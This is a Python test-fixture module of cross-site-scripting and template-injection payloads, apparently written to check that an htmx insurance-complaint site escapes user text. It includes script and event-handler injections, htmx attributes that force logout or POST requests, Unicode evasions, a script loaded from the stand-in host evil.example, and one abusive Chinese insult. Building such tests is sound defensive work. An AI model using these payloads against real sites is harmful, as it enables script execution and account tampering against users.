"""Hostile texts for every place that stores user text and every page that shows it.

Each payload would run script, add an event handler, an htmx attribute or a
javascript: link if a page inserted it as markup instead of text. Variants cover
full-width brackets, zero-width characters inside tag and attribute names, the
right-to-left override, template syntax, CJK text around the markup and very long
words. `MARK` is a unique tag per payload, so a test can find where its text landed.
"""

from __future__ import annotations

ZWSP, ZWNJ, ZWJ, WJ, BOM = "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"
RLO, PDF = "\u202e", "\u202c"

_PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">点我领红包</a>',
    "<a href=jAvAsCrIpT:alert(1)>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<div hx-get="/logout" hx-trigger="load">理赔</div>',
    '<button hx-post="/insurer/devices" hx-vals=\'{"label":"pwn"}\'>退保</button>',
    '<div hx-on:click="alert(1)" hx-on::load="alert(1)">投诉</div>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "＜script＞alert(1)＜/script＞",  # full-width brackets
    "＜img src=x onerror=alert(1)＞",
    f"<scr{ZWSP}ipt>alert(1)</scr{ZWSP}ipt>",  # zero-width inside the tag name
    f"<img src=x on{ZWJ}error=alert(1)>",  # ... and inside an attribute name
    f"<{ZWNJ}svg onload=alert(1)>",
    f"<img{WJ} src=x onerror{BOM}=alert(1)>",
    f"{RLO}<img src=x onerror=alert(1)>{PDF} 理赔很快",  # right-to-left override
    f"{RLO}gpj.exe 投诉{PDF}",
    "{{7*7}} {% for x in range(9) %}x{% endfor %} ${7*7} #{7*7}",
    "{{ config.items() }}{{ ''.__class__.__mro__ }}",
    "理赔员态度很好<script>alert('保单')</script>但是流程太慢了",
    "柜台排队两小时 <img src=x onerror=alert(1)> 服务差评 😡",
    "业务员就是个傻逼<svg onload=alert(1)>",  # abusive: shown on the screening page too
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",  # already-escaped entities
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "A" * 1500 + "<script>alert(1)</script>",  # one very long word
    "理" * 900 + "<svg onload=alert(1)>",
]

PAYLOADS: list[str] = list(_PAYLOADS)

# Markers a test looks for in the rendered DOM: none may come from user text.
EVENT_PREFIX = "on"
HTMX_PREFIXES = ("hx-", "data-hx-")
DANGEROUS_TAGS = ("script", "iframe", "object", "embed", "svg", "meta", "link", "style", "base")


def short(payload: str, n: int = 40) -> str:
    """A payload cut to fit a name column (insurer, branch, staff, device names)."""
    return payload[:n]
